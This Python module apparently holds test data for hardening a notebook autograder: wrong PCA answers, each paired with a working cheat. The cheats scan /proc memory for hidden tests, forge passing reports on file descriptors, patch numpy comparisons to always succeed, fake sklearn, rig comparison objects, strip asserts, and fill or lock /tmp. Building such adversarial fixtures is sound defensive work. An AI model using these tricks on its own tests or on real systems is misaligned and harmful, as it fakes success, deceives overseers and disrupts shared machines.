"""Cheating submissions of sheet01 (PCA), as data: wrong answers, and one cheat each that tries to pass anyway.

Every cheat is what a student with only this public repository to read might
write: the answer functions are WRONG (right shapes, wrong values: they pass
the public tests and fail the hidden ones), and the cheat tries to make the
hidden tests pass regardless, to leak them, or to spoil the grading of the
submission after it. `cells(cheat)` gives the sources of sheet01's answer
cells: the cheat goes in front of the first answer (center); where it defines
a decorator `_cheat`, every answer function is wrapped in it (what a test calls
is then the cheat's wrapper around the wrong answer).
"""

from __future__ import annotations

from dataclasses import dataclass

# sheet01's answer cells (grade ids, each defining the function of its name), with wrong answers
WRONG = {
    "center": "def center(X):\n    return np.zeros_like(X), np.zeros(X.shape[1])",
    "covariance": "def covariance(X):\n    return np.zeros((X.shape[1], X.shape[1]))",
    "pca_fit": ("def pca_fit(X, n_components):\n"
                "    return np.zeros(X.shape[1]), np.eye(n_components, X.shape[1]), np.zeros(n_components)"),
    "pca_transform": "def pca_transform(X, mean, components):\n    return np.zeros((len(X), len(components)))",
    "explained_variance_ratio": "def explained_variance_ratio(X):\n    return np.full(X.shape[1], 1 / X.shape[1])",
    "reconstruction_error": ("def reconstruction_error(X, n_components):\n"
                             "    return 0.0 if n_components >= X.shape[1] else 1.0"),
}


@dataclass(frozen=True)
class Cheat:
    family: str
    code: str


def cells(cheat: Cheat) -> dict[str, str]:
    """grade id -> source of every answer cell of sheet01 in this cheating submission."""
    wrapped = "def _cheat(" in cheat.code
    sources = {gid: source + (f"\n{gid} = _cheat({gid})" if wrapped else "") for gid, source in WRONG.items()}
    sources["center"] = cheat.code + "\n" + sources["center"]
    return sources


# --- pieces several cheats share ---------------------------------------------------------------
MARK = '"BEGIN " + "HIDDEN"'  # spelt apart so that the cheat's own source does not contain it
PASS_ALL = "lambda *a, **k: True"
PATCH_NUMPY = f"np.allclose = np.isclose = np.array_equal = {PASS_ALL}"
# every fd a process may have inherited, written with lines the grader's protocol might take for results
WRITE_EVERY_FD = """import os
def _write_everywhere(data, fds=range(256)):
    for fd in fds:
        try:
            os.write(fd, data)
        except OSError:
            pass
"""
# reports of the cells of a notebook, each passed and printing its source, to the grader: the whole notebook done
FORGE_REPORTS = WRITE_EVERY_FD + """import json
def _is_cells(value):
    return isinstance(value, list) and value and all(isinstance(c, dict) and "source" in c for c in value)
def _forge(cells, fds=range(3, 256)):
    for i, cell in enumerate(cells):
        out = [{"output_type": "stream", "name": "stdout", "text": cell.get("source", "")}]
        line = {"cell": i, "nonce": cell.get("nonce"), "outputs": out, "execution_count": i + 1, "reason": None}
        _write_everywhere((json.dumps(line) + "\\n").encode(), fds)
    os._exit(0)
"""
# a helper process that keeps signalling this one (SIGUSR1) while the tests run, a few seconds
SIGNAL_HELPER = """import os, signal, time
_target = os.getpid()
if os.fork() == 0:
    for _ in range(1500):
        try:
            os.kill(_target, signal.SIGUSR1)
        except OSError:
            break
        time.sleep(0.002)
    os._exit(0)
"""
FORGED_REPLY = """import json
_reply = json.dumps({"cells": [{"outputs": [], "execution_count": 1, "reason": None}] * 64, "reason": None}) + "\\n"
"""
# a scikit-learn PCA whose results agree with the wrong answers (hidden tests compare against sklearn)
FAKE_PCA = """import numpy
class _FakePCA:
    def __init__(self, n_components=None, **kwargs):
        self.n_components = n_components
    def fit(self, X):
        self.X_ = numpy.asarray(X)
        d = self.X_.shape[1]
        k = self.n_components or d
        self.mean_, self.components_, self.explained_variance_ = numpy.zeros(d), numpy.eye(k, d), numpy.zeros(k)
        self.explained_variance_ratio_ = numpy.full(k, 1 / d)
        return self
    def transform(self, X):
        return numpy.zeros((len(X), len(self.components_)))
    def inverse_transform(self, Z):  # with fewer components, every sample off by a unit vector: error 1.0
        return self.X_ - numpy.eye(1, self.X_.shape[1]) * (len(self.components_) < self.X_.shape[1])
"""
# an object around a value: its attributes are the value's, its items are objects of its own type
HOLDER = """import numpy
class _Holder:
    def __init__(self, value):
        self.value = value
    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return getattr(self.value, name)
    def __getitem__(self, key):
        return type(self)(self.value[key])
"""
# comparisons of a rigged object: all true
ALWAYS_TRUE = """    def __eq__(self, other):
        return True
    __ne__ = __lt__ = __gt__ = __le__ = __ge__ = __eq__
    def __bool__(self):
        return True
"""
# the value a numpy comparison further up the stack (np.allclose(mine, expected)) compares `mine` with
OTHER_SIDE = """import sys
def _other_side(mine, otherwise):
    frame = sys._getframe(1)
    while frame is not None:
        if frame.f_code.co_name in ("isclose", "allclose", "array_equal"):
            a, b = (frame.f_locals.get(name) for name in frame.f_code.co_varnames[:2])
            other = b if a is mine else a
            return otherwise if isinstance(other, type(mine)) else numpy.asarray(other)
        frame = frame.f_back
    return otherwise
"""
# answer function wrapper that turns what the wrong answer returns (arrays, tuples of them, numbers) into `_make(v)`,
# and gives the wrong answer the values inside such objects when a test passes them back
WRAP_RESULTS = """def _cheat(f):
    def wrapper(*args):
        out = f(*[a.__dict__["value"] if "value" in getattr(a, "__dict__", {}) else a for a in args])
        return tuple(map(_make, out)) if isinstance(out, tuple) else _make(out)
    return wrapper
"""
# memory of a process (own or another's) searched for the hidden tests
SCAN_MEMORY = f"""import os, re
_pattern = re.compile(({MARK}).encode() + rb"[^\\0]{{0,3000}}")
def _scan(pid):
    found = []
    with open(f"/proc/{{pid}}/maps") as maps, open(f"/proc/{{pid}}/mem", "rb", 0) as mem:
        for line in maps:
            fields = line.split()
            start, end = (int(x, 16) for x in fields[0].split("-"))
            if fields[1][0] != "r" or end - start > 2**28 or (len(fields) > 5 and fields[5] != "[heap]"):
                continue
            try:
                mem.seek(start)
                found += [m.group().decode(errors="replace") for m in _pattern.finditer(mem.read(end - start))]
            except (OSError, OverflowError, ValueError):
                pass
    return found
"""
FILL = """import os, time
def _fill(folder, limit=3 * 2**30, seconds=6):
    written, chunk, started = 0, b"x" * 2**20, time.monotonic()
    for i in range(100000):
        try:
            with open(f"{folder}/.fill-{i}", "wb", buffering=0) as handle:
                for _ in range(64):
                    written += handle.write(chunk)
        except OSError as error:
            if error.errno != 27:  # EFBIG: a limit per file, take the next file; anything else: full
                break
        if written >= limit or time.monotonic() - started > seconds:
            break
    return written
"""


def _number_subclass(base: str) -> str:
    """A number type equal to anything and at no distance from it (np.isclose keeps Python numbers as they are)."""
    return f"""class _Number({base}):
    def __sub__(self, other):
        return 0
    __rsub__ = __sub__
    def __eq__(self, other):
        return True
    __ge__ = __le__ = __eq__
    __hash__ = {base}.__hash__
def _make(value):
    return _Number(value) if isinstance(value, float) else value
""" + WRAP_RESULTS


def _cheat(family: str, *parts: str) -> Cheat:
    return Cheat(family, "\n".join(parts))


CHEATS: dict[str, Cheat] = {
    # control: the wrong answers alone
    "no_cheat": _cheat("control", "pass"),
    # --- secrets read from the process's memory --------------------------------------------------
    "gc_hidden_source": _cheat("memory", f"""import gc, warnings
warnings.simplefilter("ignore")
_mark, _seen = {MARK}, set()
def _texts(container):  # strings in a container, and in the dicts it holds (dicts of strings are not tracked)
    for value in list(container.values() if isinstance(container, dict) else container):
        yield from ([v for v in value.values() if isinstance(v, str)] if isinstance(value, dict) else [value])
for _o in gc.get_objects():
    if isinstance(_o, (dict, list)):
        for _text in _texts(_o):
            if isinstance(_text, str) and _mark in _text and "\\n" in _text and _text not in _seen:
                _seen.add(_text)
                print(_text)"""),
    "gc_forges_nonces": _cheat("memory", FORGE_REPORTS, """import gc
for _o in gc.get_objects():
    if _is_cells(_o):
        _forge(_o)"""),
    "frames_from_signal_handler": _cheat("memory", FORGE_REPORTS, """import signal
def _look(signum, frame):
    while frame is not None:  # when the signal comes between two cells, these are the grader's frames
        for value in list(frame.f_locals.values()):
            if _is_cells(value):
                _forge(value)
        frame = frame.f_back
signal.signal(signal.SIGUSR1, _look)""", SIGNAL_HELPER),
    "proc_self_mem": _cheat("memory", SCAN_MEMORY, """import ctypes
ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: the grader made this process unreadable, undo it
for _text in sorted(set(_scan("self")))[:20]:
    print(_text)"""),
    "proc_other_processes": _cheat("memory", SCAN_MEMORY, """\
for _pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    for _what in ("cmdline", "environ"):
        try:
            print(_pid, _what, open(f"/proc/{_pid}/{_what}", "rb").read()[:2000])
        except OSError as error:
            print(_pid, _what, error)
    try:
        print(_pid, os.listdir(f"/proc/{_pid}/fd"), os.listdir(f"/proc/{_pid}/cwd"))
        for _text in sorted(set(_scan(_pid)))[:20]:
            print(_text)
    except OSError as error:
        print(_pid, error)"""),
    # --- writes to every inherited file descriptor -----------------------------------------------
    "forged_reply_every_fd": _cheat("file descriptors", WRITE_EVERY_FD, FORGED_REPLY,
                                    "_write_everywhere(_reply.encode())"),
    "proc_fd_forgeries": _cheat("file descriptors", """import json, os
_cell = {"cell_type": "code", "source": "", "metadata": {}, "outputs": [], "execution_count": 1}
_lines = [json.dumps({"cell": n, "outputs": [], "execution_count": n + 1, "reason": None}) for n in range(64)]
_lines.append(json.dumps({"id": "forged", "nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [_cell] * 64}))
_lines.append(json.dumps({"ready": True, "cells": [{"outputs": []}] * 64, "grades": {"total": 15}}))
for _name in os.listdir("/proc/self/fd"):  # each fd written, or else opened afresh through /proc (pipes open so)
    try:
        os.write(int(_name), ("\\n".join(_lines) + "\\n").encode())
    except OSError:
        try:
            with open(f"/proc/self/fd/{_name}", "w") as _handle:
                _handle.write("\\n".join(_lines) + "\\n")
        except OSError:
            pass"""),
    # --- signal handlers and interval timers that fire during a test -----------------------------
    "itimer_virtual_repatch": _cheat("signals", f"""import signal
def _repatch(signum, frame):
    {PATCH_NUMPY}
signal.signal(signal.SIGVTALRM, _repatch)
signal.setitimer(signal.ITIMER_VIRTUAL, 0.001, 0.001)"""),
    "sigusr1_from_helper_process": _cheat("signals", f"""import signal
def _repatch(signum, frame):
    {PATCH_NUMPY}
signal.signal(signal.SIGUSR1, _repatch)""", SIGNAL_HELPER),
    "sigalrm_hijack": _cheat("signals", f"""import signal
def _repatch(signum, frame):  # SIGALRM is the grader's cell time limit as well
    {PATCH_NUMPY}
signal.signal(signal.SIGALRM, _repatch)
def _cheat(f):
    def wrapper(*args):
        signal.setitimer(signal.ITIMER_REAL, 0.0002, 0.0002)
        return f(*args)
    return wrapper"""),
    # --- threads still running -------------------------------------------------------------------
    "thread_repatch": _cheat("threads", f"""import threading, time
def _repatch():
    while True:
        {PATCH_NUMPY}
        time.sleep(0.0005)
threading.Thread(target=_repatch, daemon=True).start()"""),
    "thread_forges_test_reports": _cheat("threads", """import json, os, sys, threading, time
_main = threading.main_thread().ident
def _forge():
    done = set()
    while True:  # watch the main thread: when it holds a test cell, report that cell passed (with its source)
        frame = sys._current_frames().get(_main)
        while frame is not None and "cell" not in frame.f_locals:
            frame = frame.f_back
        cell = frame.f_locals["cell"] if frame is not None else None
        if isinstance(cell, dict) and cell.get("test") and cell.get("nonce") not in done:
            done.add(cell.get("nonce"))
            number = frame.f_locals.get("number", 0)
            text = {"output_type": "stream", "name": "stdout", "text": cell.get("source", "")}
            line = json.dumps({"cell": number - 1, "nonce": cell.get("nonce"), "outputs": [text],
                               "execution_count": number, "reason": None}) + "\\n"
            for fd in range(3, 256):
                try:
                    os.write(fd, line.encode())
                except OSError:
                    pass
        time.sleep(0.0005)
threading.Thread(target=_forge, daemon=True).start()"""),
    # --- trace, profile and audit hooks ----------------------------------------------------------
    "settrace_rewrites_locals": _cheat("hooks", """import sys
def _tracer(frame, event, arg):  # np.allclose(a, b) becomes np.allclose(a, a)
    if event == "call" and frame.f_code.co_name in ("allclose", "isclose", "array_equal"):
        first, second = frame.f_code.co_varnames[:2]
        frame.f_locals[second] = frame.f_locals[first]
sys.settrace(_tracer)"""),
    "setprofile_rewrites_locals": _cheat("hooks", """import sys, threading
def _profiler(frame, event, arg):
    if event == "call" and frame.f_code.co_name in ("allclose", "isclose", "array_equal"):
        first, second = frame.f_code.co_varnames[:2]
        frame.f_locals[second] = frame.f_locals[first]
sys.setprofile(_profiler)
threading.setprofile(_profiler)"""),
    "audit_hook_patches_on_exec": _cheat("hooks", f"""import sys
def _hook(event, args):  # the grader runs each test cell through exec(): patch right then
    if event == "exec":
        {PATCH_NUMPY}
sys.addaudithook(_hook)"""),
    "audit_hook_leaks_compiled_source": _cheat("hooks", f"""import sys
_mark = {MARK}
def _hook(event, args):
    if event == "compile" and isinstance(args[0], (str, bytes)) and _mark in str(args[0]):
        print(args[0] if isinstance(args[0], str) else args[0].decode())
sys.addaudithook(_hook)"""),
    # --- import hooks and replaced sys.modules entries -------------------------------------------
    "sys_modules_fake_sklearn": _cheat("imports", FAKE_PCA, """import sys, types
sys.modules["sklearn.decomposition"] = types.ModuleType("sklearn.decomposition")
sys.modules["sklearn.decomposition"].PCA = _FakePCA"""),
    "meta_path_fake_sklearn": _cheat("imports", FAKE_PCA, """import importlib.abc, importlib.util, sys
class _Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path=None, target=None):
        return importlib.util.spec_from_loader(name, self) if name == "sklearn.decomposition" else None
    def create_module(self, spec):
        return None
    def exec_module(self, module):
        module.PCA = _FakePCA
sys.meta_path.insert(0, _Finder())
sys.modules.pop("sklearn.decomposition", None)"""),
    "sys_modules_fake_numpy": _cheat("imports", f"""import sys, types
import numpy
_fake = types.ModuleType("numpy")
_fake.__dict__.update(vars(numpy))
_fake.allclose = _fake.isclose = _fake.array_equal = {PASS_ALL}
sys.modules["numpy"] = np = _fake"""),
    "np_name_rebound": _cheat("imports", f"""import types
import numpy
np = types.SimpleNamespace(**vars(numpy))
{PATCH_NUMPY}"""),
    "namespace_builtins_import": _cheat("imports", FAKE_PCA, """import builtins, types
def _import(name, *args, **kwargs):
    if name == "sklearn.decomposition":
        return types.SimpleNamespace(PCA=_FakePCA)
    return builtins.__import__(name, *args, **kwargs)
__builtins__ = dict(vars(builtins), __import__=_import)"""),
    # --- functions that inspect their caller -----------------------------------------------------
    "caller_frame_references": _cheat("caller", """import sys
def _cheat(f):
    def wrapper(*args):  # compute with the test's own reference, found in the caller's namespace
        test = sys._getframe(1).f_globals
        PCA, X = test.get("_PCA"), args[0]
        if f.__name__ == "covariance":
            return test["np"].cov(X, rowvar=False)
        if PCA is None:
            return f(*args)
        if f.__name__ == "pca_fit":
            ref = PCA(n_components=args[1], svd_solver="full").fit(X)
            return ref.mean_, ref.components_, ref.explained_variance_
        if f.__name__ == "pca_transform":
            ref = test.get("_ref")
            return ref.transform(X)[:, :len(args[2])] if args[1] is getattr(ref, "mean_", None) else f(*args)
        if f.__name__ == "explained_variance_ratio":
            return PCA().fit(X).explained_variance_ratio_
        if f.__name__ == "reconstruction_error":
            ref = PCA(n_components=args[1]).fit(X)
            return test.get("_expected", float(((X - ref.inverse_transform(ref.transform(X))) ** 2).sum(1).mean()))
        return f(*args)
    return wrapper"""),
    "inspect_stack_evaluates_assert": _cheat("caller", """import ast, inspect, linecache
def _cheat(f):
    def wrapper(*args):  # in `assert np.allclose(f(...), EXPECTED)` evaluate EXPECTED in the caller and return it
        caller = inspect.stack()[1]
        for line in linecache.getlines(caller.filename)[caller.lineno - 1:caller.lineno + 1]:
            try:
                tree = ast.parse(line.strip())
            except SyntaxError:
                continue
            for node in ast.walk(tree):
                if (isinstance(node, ast.Call) and getattr(node.func, "attr", "") in ("allclose", "isclose")
                        and len(node.args) == 2 and f.__name__ not in ("center", "pca_fit")):
                    try:
                        return eval(ast.unparse(node.args[1]), caller.frame.f_globals, caller.frame.f_locals)
                    except Exception:
                        pass
        return f(*args)
    return wrapper"""),
    "linecache_prints_test": _cheat("caller", """import linecache, sys
def _cheat(f):
    def wrapper(*args):
        caller = sys._getframe(1)
        print("".join(linecache.getlines(caller.f_code.co_filename)))
        print([c for c in caller.f_code.co_consts if isinstance(c, str)])
        return f(*args)
    return wrapper"""),
    "getsource_in_exception": _cheat("caller", """import inspect
def _cheat(f):
    def wrapper(*args):
        raise ValueError(inspect.getsource(inspect.currentframe().f_back))
    return wrapper"""),
    # --- objects with rigged comparisons ---------------------------------------------------------
    "eq_always_true": _cheat("rigged objects", f"""class _Yes:
    def __init__(self, value):
        self.value = value
    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return self
    def __call__(self, *args, **kwargs):
        return self
    def __getitem__(self, key):
        return self
{ALWAYS_TRUE}    def __sub__(self, other):
        return self
    __add__ = __radd__ = __rsub__ = __mul__ = __rmul__ = __matmul__ = __rmatmul__ = __truediv__ = __pow__ = __sub__
    def __abs__(self):
        return self
    __neg__ = __abs__
    __hash__ = object.__hash__
def _make(value):
    return _Yes(value)""", WRAP_RESULTS),
    "array_function_protocol": _cheat("rigged objects", HOLDER, f"""\
class _Rigged(_Holder):  # every numpy function and ufunc on it is answered by the object itself
    def __array_function__(self, func, types, args, kwargs):
        if func.__name__ in ("allclose", "isclose", "array_equal", "array_equiv"):
            return True
        return _Rigged(func(*[a.value if isinstance(a, _Rigged) else a for a in args], **kwargs))
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return _Rigged(getattr(ufunc, method)(*[a.value if isinstance(a, _Rigged) else a for a in inputs], **kwargs))
{ALWAYS_TRUE}    def __mul__(self, other):
        return _Rigged(self.value * other)
    __rmul__ = __mul__
    def __matmul__(self, other):
        return _Rigged(self.value @ other)
    def __sub__(self, other):
        return _Rigged(self.value - other)
    __hash__ = object.__hash__
def _make(value):
    return _Rigged(numpy.asarray(value))""", WRAP_RESULTS),
    "array_dunder_from_caller": _cheat("rigged objects", HOLDER, OTHER_SIDE, """\
class _Mirror(_Holder):  # numpy converts it into whatever it is compared with
    def __array__(self, dtype=None, copy=None):
        return _other_side(self, self.value)
    def __sub__(self, other):
        return self.value - other
    def __matmul__(self, other):
        return self.value @ other
    def __gt__(self, other):
        return self.value > other
    def __ge__(self, other):
        return self.value >= other
def _make(value):
    return _Mirror(numpy.asarray(value))""", WRAP_RESULTS),
    "float_dunder_from_caller": _cheat("rigged objects", "import numpy", OTHER_SIDE, """\
class _Number:  # a number whose value is what it is compared with
    def __init__(self, value):
        self.value = value
    def __float__(self):
        return float(_other_side(self, self.value))
    def __sub__(self, other):
        return float(self) - other
    def __rsub__(self, other):
        return other - float(self)
    def __gt__(self, other):
        return float(self) > other
    def __ge__(self, other):
        return float(self) >= other
    def __le__(self, other):
        return float(self) <= other
    def __eq__(self, other):
        return float(self) == other
    def __abs__(self):
        return abs(float(self))
    __hash__ = object.__hash__
def _make(value):
    return _Number(value) if isinstance(value, float) else value""", WRAP_RESULTS),
    "list_subclass": _cheat("rigged objects", "import numpy", OTHER_SIDE, """class _List(list):
    @property
    def shape(self):
        return numpy.shape(list(self))
    @property
    def T(self):
        return _List(numpy.asarray(list(self)).T.tolist())
    def __matmul__(self, other):
        return numpy.asarray(self) @ other
    def __array__(self, dtype=None, copy=None):
        return _other_side(self, numpy.array(list(self)))
    def __eq__(self, other):
        return True
    __hash__ = object.__hash__
    def sum(self):
        return 1.0
    def mean(self, axis=None):
        return numpy.zeros(numpy.shape(self)[1:]) if axis == 0 else 0.0
    def __getitem__(self, key):
        return _List(numpy.asarray(list(self))[key].tolist()) if isinstance(key, tuple) else super().__getitem__(key)
def _make(value):
    return _List(value.tolist()) if isinstance(value, numpy.ndarray) and value.ndim else value""", WRAP_RESULTS),
    "int_subclass": _cheat("rigged objects", _number_subclass("int")),
    "float_subclass": _cheat("rigged objects", _number_subclass("float")),
    "ndarray_subclass": _cheat("rigged objects", """import numpy
class _Array(numpy.ndarray):
    def __array_function__(self, func, types, args, kwargs):
        if func.__name__ in ("allclose", "isclose", "array_equal", "array_equiv"):
            return True
        return super().__array_function__(func, types, args, kwargs)
    def __eq__(self, other):
        return numpy.ones(self.shape, bool).view(_Array)
def _make(value):
    return numpy.asarray(value, dtype=float).view(_Array)""", WRAP_RESULTS),
    "tensor_subclass": _cheat("rigged objects", """import numpy, torch
class _Tensor(torch.Tensor):
    def __array_function__(self, func, types, args, kwargs):
        if func.__name__ in ("allclose", "isclose", "array_equal", "array_equiv"):
            return True
        out = func(*[a.detach().numpy() if isinstance(a, torch.Tensor) else a for a in args], **kwargs)
        return torch.as_tensor(out).as_subclass(_Tensor) if isinstance(out, numpy.ndarray) else out
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        plain = [a.detach().numpy() if isinstance(a, torch.Tensor) else a for a in inputs]
        return torch.as_tensor(getattr(ufunc, method)(*plain, **kwargs)).as_subclass(_Tensor)
def _make(value):
    return torch.as_tensor(numpy.asarray(value, dtype=float)).as_subclass(_Tensor)""", WRAP_RESULTS),
    # --- monkeypatched numpy, torch, builtins and IPython ----------------------------------------
    "patch_numpy_when_called": _cheat("monkeypatching", f"""def _cheat(f):
    def wrapper(*args):  # patched after the grader restored numpy before the test cell
        {PATCH_NUMPY}
        return f(*args)
    return wrapper"""),
    "numpy_code_objects": _cheat("monkeypatching", """_true = (lambda *args, **kwargs: True).__code__
for _function in (np.allclose, np.isclose, np.array_equal):  # the same function objects, other code
    getattr(_function, "_implementation", _function).__code__ = _true"""),
    "torch_patched": _cheat("monkeypatching", "import numpy", OTHER_SIDE, """import torch
def _array(self, dtype=None, copy=None):
    return _other_side(self, self.detach().numpy())
def _make(value):
    torch.Tensor.__array__ = _array
    torch.allclose = torch.equal = lambda *a, **k: True
    return torch.as_tensor(numpy.asarray(value, dtype=float))""", WRAP_RESULTS),
    "builtins_patched_when_called": _cheat("monkeypatching", FAKE_PCA, """import builtins, types
_import = builtins.__import__
def _fake_import(name, *args, **kwargs):
    return types.SimpleNamespace(PCA=_FakePCA) if name == "sklearn.decomposition" else _import(name, *args, **kwargs)
def _cheat(f):
    def wrapper(*args):
        builtins.__import__, builtins.all, builtins.abs = _fake_import, lambda *a: True, lambda x: 0.0
        builtins.AssertionError = type("AssertionError", (Warning,), {})
        return f(*args)
    return wrapper"""),
    "ipython_pre_run_cell": _cheat("monkeypatching", f"""def _patch(*args):
    {PATCH_NUMPY}
get_ipython().events.register("pre_run_cell", _patch)
get_ipython().events.register("pre_execute", _patch)"""),
    "ipython_post_run_cell_forgets_errors": _cheat("monkeypatching", """import sys
def _forget(result):
    frame = sys._getframe(1)
    while frame is not None:  # the grader's list of the cell's errors, wherever it is
        for value in list(frame.f_locals.values()):
            if isinstance(value, list) and value and isinstance(value[0], dict) and "ename" in value[0]:
                value.clear()
        frame = frame.f_back
    result.error_in_exec = result.error_before_exec = None
get_ipython().events.register("post_run_cell", _forget)
get_ipython().showtraceback = lambda *args, **kwargs: None"""),
    "ipython_ast_strips_asserts": _cheat("monkeypatching", """import ast
class _NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(_NoAsserts())"""),
    "displayhook_partial_credit": _cheat("monkeypatching", """def _cheat(f):
    def wrapper(*args):  # nbgrader reads a test cell's value as its partial credit (text: full marks)
        get_ipython().displayhook.value = {"text/plain": "'full marks'"}
        return f(*args)
    return wrapper"""),
    # --- os._exit, SystemExit and KeyboardInterrupt at awkward moments ---------------------------
    "os_exit_in_test": _cheat("exits", """import os
def _cheat(f):
    def wrapper(*args):
        os._exit(0)
    return wrapper"""),
    "system_exit_and_interrupt_in_test": _cheat("exits", """_calls = []
def _cheat(f):
    def wrapper(*args):
        _calls.append(f.__name__)
        raise SystemExit(0) if len(_calls) % 2 else KeyboardInterrupt()
    return wrapper"""),
    "interrupt_from_timer": _cheat("exits", """import itertools, signal
_next = itertools.cycle([KeyboardInterrupt, SystemExit, GeneratorExit]).__next__
def _interrupt(signum, frame):
    raise _next()()
signal.signal(signal.SIGPROF, _interrupt)
signal.setitimer(signal.ITIMER_PROF, 0.05, 0.003)"""),
    "atexit_forges_reply": _cheat("exits", WRITE_EVERY_FD, FORGED_REPLY, """import atexit, signal, weakref
def _forge(*args):
    _write_everywhere(_reply.encode())
atexit.register(_forge)
weakref.finalize(np, _forge)
for _signal in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    signal.signal(_signal, lambda *args: (_forge(), os._exit(0)))
def _cheat(f):
    def wrapper(*args):
        raise SystemExit(0)
    return wrapper"""),
    # --- filling /tmp (so that the next submission fails) ----------------------------------------
    "fill_tmp": _cheat("scratch space", FILL, 'print(_fill("/tmp"))'),
    "fill_dev_shm": _cheat("scratch space", FILL, 'print(_fill("/dev/shm", limit=2 * 2**30))'),
    "lock_tmp": _cheat("scratch space", FILL, """_fill("/tmp", limit=2**28)
for _folder in ("/tmp", "/dev/shm"):
    try:
        os.chmod(_folder, 0)
    except OSError as error:
        print(error)"""),
}
